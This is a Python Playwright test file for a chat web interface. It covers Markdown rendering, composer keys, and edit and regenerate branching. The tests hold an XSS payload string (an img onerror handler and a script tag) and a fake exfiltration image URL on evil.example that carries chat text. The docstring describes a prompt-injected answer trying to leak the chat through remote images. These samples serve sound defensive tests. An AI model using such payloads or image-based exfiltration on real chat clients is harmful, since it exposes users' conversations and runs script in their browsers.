"""Messages in real Chromium: Markdown rendered and highlighted, untrusted text never executed,
the composer's keys, edit and resubmit, regenerate."""

from __future__ import annotations

import json
import re

from playwright.sync_api import Page, expect

from tests.librechat_double.ids import NO_PARENT
from tests.librechat_double.server import LibreChatDouble
from users.models import User

from .conftest import open_chat

XSS = (
    '<img src=x onerror="window.__xss = (window.__xss || 0) + 1"><script>window.__xss = 1</script>'
)


def test_markdown_is_rendered_and_code_highlighted(page: Page, alice: User) -> None:
    chat = open_chat(page, alice.email)
    chat.ask("MARKDOWN please")
    chat.finished()
    answer = chat.answer_text()
    expect(answer.get_by_role("heading", name="Reading a CSV in Python")).to_be_visible()
    expect(answer.locator("strong")).to_have_text("standard library")
    expect(answer.get_by_role("listitem")).to_have_count(2)
    code = answer.locator("pre code.hljs.language-python")
    expect(code).to_contain_text("import csv")
    expect(code.locator(".hljs-keyword").first).to_have_text("import")
    expect(answer.locator(":not(pre) > code").first).to_have_text("csv.DictReader")
    # Assistant and user are told apart, with times.
    expect(chat.answer()).to_contain_text("Fake")
    expect(chat.messages("user")).to_contain_text("You")
    expect(chat.answer().locator("time")).to_have_attribute("datetime", re.compile("Z$"))


def test_untrusted_text_never_runs(page: Page, alice: User) -> None:
    chat = open_chat(page, alice.email)
    chat.ask(f"ECHO: **bold** {XSS}")
    chat.finished()
    # The user's own text is shown as text; the model's Markdown is sanitised.
    expect(chat.messages("user").get_by_test_id("message-content")).to_have_text(
        f"ECHO: **bold** {XSS}"
    )
    answer = chat.answer_text()
    expect(answer.locator("strong")).to_have_text("bold")
    # `src=x` is relative, so same-origin: the image stays (without its handler).
    expect(answer.locator("img")).to_have_count(1)
    assert answer.locator("img").get_attribute("src") == "x"
    assert answer.locator("img").get_attribute("onerror") is None
    expect(page.locator(".msg-content script")).to_have_count(0)
    page.wait_for_function(
        "() => [...document.querySelectorAll('.msg-content img')].every((img) => img.complete)"
    )
    # A hostile title stays text in the sidebar and the heading.
    page.get_by_role("button", name="Rename “Fake Chat Title”").click()
    title = page.get_by_role("textbox", name="New title")
    title.fill(XSS)
    title.press("Enter")
    expect(chat.convo(XSS)).to_be_visible()
    expect(chat.title).to_have_text(XSS)
    page.reload()
    expect(chat.convo(XSS)).to_be_visible()
    expect(page.locator("#convo-list img, #chat-title img")).to_have_count(0)
    assert page.evaluate("window.__xss") is None


REMOTE_IMAGE = "https://evil.example/collect?d=secret-chat-text"
DOT_GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"


def test_remote_images_in_an_answer_are_never_fetched(page: Page, alice: User) -> None:
    """A prompt-injected answer cannot make the browser call another site with the chat in
    the URL: foreign images become links; `data:image/` and same-origin images stay."""
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    chat = open_chat(page, alice.email)
    chat.ask(
        f"ECHO: Look ![chart]({REMOTE_IMAGE}) and ![dot]({DOT_GIF}) and "
        f'<img src="{REMOTE_IMAGE}&raw=1" alt="raw"> and ![own](/static/chat/none.png)'
    )
    chat.finished()
    answer = chat.answer_text()
    link = answer.get_by_role("link", name="[external image: chart (evil.example)]")
    expect(link).to_have_attribute("href", REMOTE_IMAGE)
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answer.get_by_role("link", name="[external image: raw (evil.example)]")).to_be_visible()
    expect(answer.locator("img")).to_have_count(2)
    expect(answer.locator("img").first).to_have_attribute("src", DOT_GIF)
    expect(answer.locator("img").last).to_have_attribute("src", "/static/chat/none.png")
    expect(page.locator("img[src*='evil.example']")).to_have_count(0)
    assert not [url for url in requested if "evil.example" in url]


def test_enter_sends_and_shift_enter_adds_a_line(
    page: Page, alice: User, fast_librechat: LibreChatDouble
) -> None:
    chat = open_chat(page, alice.email)
    chat.prompt.click()
    page.keyboard.type("line one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("line two")
    expect(chat.prompt).to_have_value("line one\nline two")
    expect(chat.messages("user")).to_have_count(0)
    page.keyboard.press("Enter")
    expect(chat.messages("user").get_by_test_id("message-content")).to_have_text(
        "line one\nline two"
    )
    expect(chat.prompt).to_have_value("")
    chat.finished()
    expect(chat.prompt).to_be_focused()
    # The body LibreChat's web client sends, with the endpoint and model from its catalogue.
    [posted] = fast_librechat.state.requests_to("/api/agents/chat/Fake", "POST")
    body = json.loads(posted.body)
    assert body["text"] == "line one\nline two"
    assert (body["endpoint"], body["endpointType"], body["model"]) == (
        "Fake",
        "custom",
        "fake-model",
    )
    assert body["parentMessageId"] == NO_PARENT
    assert body["conversationId"] is None
    assert body["ephemeralAgent"]["execute_code"] is False
    assert posted.header("X-CSRFToken") is None  # ours, not forwarded


def test_regenerate_and_edit_make_branches(
    page: Page, alice: User, fast_librechat: LibreChatDouble
) -> None:
    chat = open_chat(page, alice.email)
    chat.ask("First question")
    chat.finished()
    expect(chat.answer_text()).to_have_text("Hello from the fake model.")

    chat.answer().get_by_role("button", name="Regenerate this answer").click()
    chat.finished()
    expect(chat.answer().locator(".branch-nav")).to_contain_text("2 / 2")
    chat.answer().get_by_role("button", name="Previous version").click()
    expect(chat.answer().locator(".branch-nav")).to_contain_text("1 / 2")

    chat.messages("user").get_by_role("button", name="Edit and resend this message").click()
    editor = page.get_by_role("textbox", name="Edit your message")
    expect(editor).to_have_value("First question")
    editor.fill("ECHO: A better question")
    page.get_by_role("button", name="Save & submit").click()
    chat.finished()
    expect(chat.answer_text()).to_have_text("A better question")
    expect(chat.messages("user").locator(".branch-nav")).to_contain_text("2 / 2")

    conversation_id = page.url.rstrip("/").rsplit("/", 1)[1]
    stored = fast_librechat.state.chat.get_messages(alice.librechat_user_id, conversation_id)
    questions = [m for m in stored if m["isCreatedByUser"]]
    assert [q["text"] for q in questions] == ["First question", "ECHO: A better question"]
    assert {q["parentMessageId"] for q in questions} == {NO_PARENT}
    first_answers = [m for m in stored if m["parentMessageId"] == questions[0]["messageId"]]
    assert len(first_answers) == 2  # the answer and its regeneration, siblings
    chat.messages("user").get_by_role("button", name="Previous version").click()
    expect(chat.messages("user").get_by_test_id("message-content")).to_have_text("First question")
